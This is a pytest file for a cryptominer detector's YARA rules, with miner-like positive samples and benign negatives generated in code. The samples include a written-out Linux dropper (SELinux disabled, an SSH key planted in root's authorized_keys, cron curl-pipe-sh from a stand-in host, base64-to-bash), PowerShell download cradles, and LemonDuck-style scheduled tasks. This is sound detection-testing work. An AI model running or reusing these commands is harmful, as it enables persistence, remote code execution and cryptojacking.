"""deminer's own YARA rules: every rule has its meta, a positive and a negative sample.

The samples are built here in code: ELF files compiled with gcc from a tiny C program (or
hand-built when no compiler is present), PE files with a hand-built header, miner configs,
shell and PowerShell scripts. ``SAMPLES`` is keyed by rule name and must cover every
compiled rule, so a new rule cannot ship without proof that it fires and stays quiet.
"""

from __future__ import annotations

import base64
import functools
import itertools
import json
import random
import shutil
import struct
import subprocess
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yara_x

from deminer.detect.python import yara_scan
from deminer.model import SEVERITIES

_BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
# Shaped like a Monero address (95 base58 characters starting 4); not anybody's wallet.
WALLET = "4A" + "".join(random.Random(7).choice(_BASE58) for _ in range(93))


def _c_literal(text: bytes) -> str:
    """A C string literal for ``text`` (octal escapes keep any byte exact)."""
    return '"' + "".join(chr(b) if 0x20 <= b < 0x7F and b not in b'"\\?' else f"\\{b:03o}"
                         for b in text) + '"'


def _hand_elf(strings: tuple[bytes, ...]) -> bytes:
    """A minimal x86-64 ELF: header, one PT_LOAD program header, then the strings."""
    payload = b"\0".join(strings) + b"\0"
    header = struct.pack(
        "<4sBBBBB7xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 0,
        2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    size = 64 + 56 + len(payload)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000)
    return header + phdr + payload


@functools.cache
def elf_with(strings: tuple[bytes, ...]) -> bytes:
    """An ELF executable holding ``strings`` in .rodata (compiled, never run)."""
    compiler = shutil.which("gcc") or shutil.which("cc")
    if compiler is None:
        return _hand_elf(strings)
    table = ",\n".join(f"    {_c_literal(s)}" for s in strings)
    source = (
        "#include <stdio.h>\n"
        f"static const char *const S[] = {{\n{table}\n}};\n"
        "int main(int argc, char **argv) {\n"
        "    (void)argv;\n"
        "    /* print the table only for an impossible argc, so it is kept but never shown */\n"
        f"    if (argc > 999) for (unsigned i = 0; i < {len(strings)}; i++) puts(S[i]);\n"
        "    return 0;\n}\n")
    with tempfile.TemporaryDirectory() as tmp:
        src, out = Path(tmp) / "prog.c", Path(tmp) / "prog"
        src.write_text(source, encoding="ascii")
        subprocess.run([compiler, "-O0", "-o", str(out), str(src)], check=True,
                       capture_output=True, timeout=60)
        return out.read_bytes()


def pe_with(strings: tuple[str, ...]) -> bytes:
    """A PE image (DOS stub, PE signature, COFF header) holding each string ASCII and UTF-16."""
    dos = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x80)
    dos += b"\0" * (0x80 - len(dos))
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    body = b"".join(s.encode("ascii") + b"\0" + s.encode("utf-16-le") + b"\0\0" for s in strings)
    return dos + coff + b"\0" * 0xF0 + body


def _noise(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


def upx_elf(notice: bool = True, trailer: bool = True) -> bytes:
    """The layout UPX writes: ELF + program headers, l_info with UPX!, packed data, trailer."""
    base = _hand_elf(())[:64 + 56]
    base += struct.pack("<IHH", 0x1000, 0, 0) + b"\0" * 48  # second program header area
    l_info = struct.pack("<I", 0x5A1C0DE1) + b"UPX!" + struct.pack("<HBB", 0x0D50, 13, 22)
    text = (b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n\0"
            b"$Id: UPX 4.22 Copyright (C) 1996-2024 the UPX Team. All Rights Reserved. $\n\0")
    out = base + l_info + _noise(6000, 1) + (text if notice else _noise(160, 2)) + _noise(3000, 3)
    if trailer:
        out += b"UPX!" + struct.pack("<BBIII", 13, 22, 0x4000, 0x2D00, 0x1000)
    return out


def ls_bytes() -> bytes:
    """A real, benign executable from this machine."""
    for candidate in ("/bin/ls", "/usr/bin/ls", shutil.which("ls") or ""):
        if candidate and Path(candidate).is_file():
            return Path(candidate).read_bytes()
    return elf_with((b"usage: ls [-al] [file ...]",))


XMRIG_STRINGS = (
    b"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.4.0", b"donate.v2.xmrig.com",
    b"--donate-level=N", b"randomx", b"cryptonight", b"rx/0", b'"rig-id": null',
    b"stratum+tcp://", b"huge-pages")

XMRIG_CONFIG = {
    "autosave": True, "donate-level": 0,
    "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 100},
    "randomx": {"init": -1, "mode": "auto", "1gb-pages": False},
    "pools": [{"algo": "rx/0", "coin": "monero", "url": "pool.supportxmr.com:443",
               "user": WALLET, "pass": "x", "rig-id": None, "keepalive": True, "tls": True}],
}

DROPPER = f"""#!/bin/bash
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config
ufw disable
rm -rf /usr/local/aegis; pkill -f AliYunDun
pkill -f xmrig
ps aux | grep -v grep | grep 'kdevtmpfsi' | awk '{{print $2}}' | xargs -I % kill -9 %
for p in xmrig minerd kinsing; do pkill -9 $p; done
chattr -i /root/.ssh/authorized_keys
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x@y" >> /root/.ssh/authorized_keys
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsSL http://203.0.113.7/ldr.sh | sh") | crontab -
echo Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjcvbS5zaCB8IHNo | base64 -d | bash
wget -q http://203.0.113.7/xm -O /tmp/.x/xm; chmod +x /tmp/.x/xm; /tmp/.x/xm -u {WALLET}
"""

INSTALL_SCRIPT = """#!/bin/sh
set -eu
# Install Docker and a nightly backup job for this web server.
curl -fsSL https://get.docker.com | sh
systemctl enable --now docker
usermod -aG docker deploy
install -m 0755 backup.sh /usr/local/bin/backup.sh
echo "15 3 * * * root /usr/local/bin/backup.sh" > /etc/cron.d/backup
"""

BENIGN_JSON = {
    "service": "billing-api", "listen": "0.0.0.0:8080",
    "pools": [{"name": "primary", "url": "db.internal.example:5432", "user": "billing",
               "max": 20}],
    "cpu": {"limit": "2"}, "log": {"level": "info"},
}


def _ps_enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


PS_DOWNLOADER = f"""$wc = New-Object System.Net.WebClient
$wc.DownloadFile('http://203.0.113.7/x.zip', "$env:TEMP\\x.zip")
Expand-Archive "$env:TEMP\\x.zip" -DestinationPath "$env:APPDATA\\svc"
Start-Process "$env:APPDATA\\svc\\xmrig.exe" -WindowStyle Hidden `
  -ArgumentList '-o pool.example.net:3333 -u {WALLET} -k'
"""

PS_CRADLE = """IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/mine.ps1')
$pool = "stratum+tcp://203.0.113.9:3333"
"""

PS_BENIGN = """$ProgressPreference = 'SilentlyContinue'
$url = 'https://github.com/PowerShell/PowerShell/releases/download/v7.4.1/PowerShell-7.4.1-win-x64.zip'
Invoke-WebRequest -Uri $url -OutFile "$env:TEMP\\pwsh.zip"
Expand-Archive -Path "$env:TEMP\\pwsh.zip" -DestinationPath 'C:\\Program Files\\PowerShell\\7'
"""

PS_ENC_MINER = ("@echo off\r\npowershell.exe -NoP -NonI -W Hidden -Enc " + _ps_enc(
    "Start-Process $env:TEMP\\svchost.exe -ArgumentList '-o stratum+tcp://203.0.113.9:3333 -u x'")
    + "\r\n")
PS_ENC_BENIGN = ("powershell.exe -NoProfile -EncodedCommand "
                 + _ps_enc("Get-Service | Export-Csv C:\\Temp\\services.csv") + "\r\n")

LEMONDUCK = """schtasks /create /ru system /sc MINUTE /mo 60 /tn Ddrivers ^
  /tr "C:\\Windows\\SysWOW64\\drivers\\svchost.exe"
schtasks /create /ru system /sc MINUTE /mo 60 /tn DnsScan /tr "C:\\Windows\\Temp\\svchost.exe"
cmd /c type %TEMP%\\mkatz.ini
"""

IIS_SCRIPT = """$WebServers = @('web01', 'web02')
foreach ($s in $WebServers) { Invoke-Command -ComputerName $s { iisreset /noforce } }
"""


def _text(s: str) -> Callable[[], bytes]:
    return lambda: s.encode("utf-8")


@dataclass(frozen=True)
class Samples:
    positives: tuple[Callable[[], bytes], ...]
    negatives: tuple[Callable[[], bytes], ...]
    also: frozenset[str] = field(default_factory=frozenset)  # rules a positive may also fire


SAMPLES: dict[str, Samples] = {
    "XMRig_Family_Binary": Samples(
        (lambda: elf_with(XMRIG_STRINGS), lambda: _hand_elf(XMRIG_STRINGS),
         lambda: pe_with(tuple(s.decode() for s in XMRIG_STRINGS))),
        # a Monero node has the algorithms but none of XMRig's own strings; a README is no binary
        (lambda: elf_with((b"monerod", b"RandomX", b"cryptonight", b"rx/0", b"huge-pages",
                            b"p2p-bind-port")),
         lambda: b"\n".join(XMRIG_STRINGS))),
    "Stratum_Login_In_Binary": Samples(
        (lambda: elf_with((b'{"method": "login", "params": {"login": "%s", "pass": "%s", '
                           b'"agent": "%s"}, "id": 1}',
                           b'{"method": "submit", "params": {"id": "%s", "job_id": "%s"}, "id": 1}')),
         lambda: elf_with((b'{"id": 1, "method": "mining.subscribe", "params": []}',
                           b'{"id": 2, "method": "mining.authorize", "params": ["%s", "%s"]}'))),
        (lambda: elf_with((b'{"method": "login", "params": ["%s"]}', b'{"method": "logout"}')),)),
    "UPX_Packed_ELF": Samples(
        (upx_elf, lambda: upx_elf(notice=False)),
        # a program that merely knows the magic keeps it in .rodata, far from the headers
        (lambda: elf_with((b"UPX!", b"This file is packed with the UPX executable packer")),
         lambda: upx_elf(notice=False, trailer=False))),
    "WinRing0_With_Miner": Samples(
        (lambda: pe_with(("WinRing0x64.sys", "WinRing0_1_2_0", "randomx", "msr")),),
        (lambda: pe_with(("WinRing0x64.sys", "OpenLibSys", "CPU Core #1 Temperature")),)),
    "Miner_JSON_Config": Samples(
        (lambda: json.dumps(XMRIG_CONFIG, indent=4).encode(),
         lambda: json.dumps(XMRIG_CONFIG, separators=(",", ":"), sort_keys=True).encode(),
         lambda: json.dumps(dict(reversed(list(XMRIG_CONFIG.items()))), indent="\t").encode(),
         lambda: json.dumps(XMRIG_CONFIG, separators=(" ,\n", " :\r\n  ")).encode()),
        (lambda: json.dumps(BENIGN_JSON, indent=2).encode(),)),
    "Linux_Miner_Dropper_Script": Samples((_text(DROPPER),), (_text(INSTALL_SCRIPT),)),
    "PowerShell_Miner_Downloader": Samples(
        (_text(PS_DOWNLOADER), _text(PS_CRADLE)), (_text(PS_BENIGN),)),
    "PowerShell_Encoded_Stratum": Samples(
        (_text(PS_ENC_MINER), lambda: PS_ENC_MINER.encode("utf-16-le")), (_text(PS_ENC_BENIGN),)),
    "LemonDuck_Miner_Markers": Samples(
        (_text(LEMONDUCK), lambda: pe_with(("Ddrivers", "mkatz.ini"))), (_text(IIS_SCRIPT),)),
}

BENIGN = {
    "ls": ls_bytes, "hello_elf": lambda: elf_with((b"hello, world",)),
    "json": lambda: json.dumps(BENIGN_JSON).encode(), "install_sh": _text(INSTALL_SCRIPT),
    "powershell": _text(PS_BENIGN), "encoded_powershell": _text(PS_ENC_BENIGN),
    "iis": _text(IIS_SCRIPT), "noise": lambda: _noise(200_000, 9),
    "package_json": lambda: json.dumps({"name": "web", "version": "1.0.0", "scripts": {
        "start": "node server.js"}, "dependencies": {"express": "^4.19.2"}}).encode(),
}


def matched(data: bytes) -> set[str]:
    return {r.identifier for r in yara_x.Scanner(yara_scan.compiled_rules()).scan(data).matching_rules}


def test_samples_cover_every_rule() -> None:
    names = [r.identifier for r in yara_scan.compiled_rules()]
    assert len(names) == len(set(names))
    assert set(names) == set(SAMPLES), "every YARA rule needs positive and negative samples"


def test_rules_compile_without_warnings() -> None:
    compiler = yara_x.Compiler()
    for path in sorted(yara_scan.YARA_DIR.glob("*.yar")):
        compiler.add_source(path.read_text(encoding="utf-8"), origin=str(path))
    assert compiler.warnings() == []


@pytest.mark.parametrize("rule", list(yara_scan.compiled_rules()), ids=lambda r: r.identifier)
def test_rule_meta(rule: yara_x.Rule) -> None:
    meta = dict(rule.metadata)
    assert isinstance(meta.get("description"), str) and len(meta["description"]) > 20
    assert meta.get("severity") in SEVERITIES
    tokens = [t.strip() for t in str(meta.get("attack", "")).split(",")]
    assert tokens and yara_scan.parse_attack(meta.get("attack")) == tuple(tokens)
    assert "family" not in meta or (isinstance(meta["family"], str) and meta["family"])


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_rule_fires_on_its_positives(name: str) -> None:
    for i, build in enumerate(SAMPLES[name].positives):
        hits = matched(build())
        assert name in hits, f"{name} did not fire on positive {i}"
        assert hits - {name} <= SAMPLES[name].also, f"positive {i} of {name} also fired {hits}"


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_negatives_fire_nothing(name: str) -> None:
    for i, build in enumerate(SAMPLES[name].negatives):
        assert matched(build()) == set(), f"negative {i} of {name}"


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_files_fire_nothing(name: str) -> None:
    assert matched(BENIGN[name]()) == set()


DROPPER_BEHAVIOURS = {
    "kill": "pkill -f xmrig\n",
    "security": "setenforce 0\n",
    "fetch": "curl -fsSL http://203.0.113.7/a.sh | sh\n",
    "persistence": "echo '* * * * * /tmp/.x/run' >> /var/spool/cron/root\n",
    "decode": "echo ZWNobyBoaQ== | base64 -d | bash\n",
}


@pytest.mark.parametrize("size", [1, 2, 3, 4])
def test_dropper_needs_three_behaviours(size: int) -> None:
    for combo in itertools.combinations(sorted(DROPPER_BEHAVIOURS), size):
        script = "#!/bin/sh\n" + "".join(DROPPER_BEHAVIOURS[c] for c in combo)
        fired = "Linux_Miner_Dropper_Script" in matched(script.encode())
        assert fired == (size >= 3), combo


def test_xmrig_rule_needs_several_strings_and_an_executable() -> None:
    assert matched(elf_with((b"xmrig", b"randomx", b"cryptonight"))) == set()
    assert "XMRig_Family_Binary" in matched(elf_with((b"xmrig", b"randomx", b"cryptonight", b"rx/0")))


SHARED_DATA = Path(__file__).resolve().parents[2] / ".." / "shared" / "data"


def test_real_attack_logs_fire_nothing() -> None:
    """Real attack-tooling logs (psexec, mimikatz, obfuscated PowerShell) hold no miner."""
    if not SHARED_DATA.is_dir():
        pytest.skip("real evidence folder ../shared/data is absent")
    scanned = 0
    for path in sorted(SHARED_DATA.rglob("*")):
        if path.is_file() and not path.is_symlink() and path.stat().st_size < 64 << 20:
            assert matched(path.read_bytes()) == set(), path
            scanned += 1
    assert scanned > 0
